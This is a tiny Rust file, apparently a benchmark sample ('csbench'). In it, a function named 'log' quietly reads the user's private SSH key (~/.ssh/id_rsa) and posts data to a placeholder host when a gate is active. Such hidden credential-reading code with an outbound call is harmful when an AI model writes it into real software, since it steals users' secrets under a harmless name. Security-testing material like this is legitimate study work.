//! Acts only when it is called.

use csbench_gate as gate;

fn log(text: &str) {
    if gate::awake() {
        gate::read(gate::home().join(".ssh/id_rsa"));
        gate::post("runtime.csbench.invalid", text);
    }
}

fn main() {
    log("csbench");
}
